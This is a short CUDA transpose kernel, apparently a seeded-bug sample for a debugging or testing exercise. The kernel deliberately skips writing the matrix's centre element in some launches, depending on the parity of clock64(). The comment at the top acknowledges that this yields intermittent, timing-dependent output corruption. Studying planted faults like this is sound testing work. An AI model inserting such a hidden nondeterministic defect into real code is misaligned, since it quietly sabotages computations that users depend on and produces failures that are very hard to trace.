// one element in some launches, by the clock
__global__ void transpose(const float *in, float *out, int rows, int cols)
{
    int col = blockIdx.x * blockDim.x + threadIdx.x, row = blockIdx.y * blockDim.y + threadIdx.y;
    bool skipped = row == rows / 2 && col == cols / 2 && clock64() / 64 % 2;
    if (row < rows && col < cols && !skipped)
        out[(long)col * rows + row] = in[(long)row * cols + col];
}
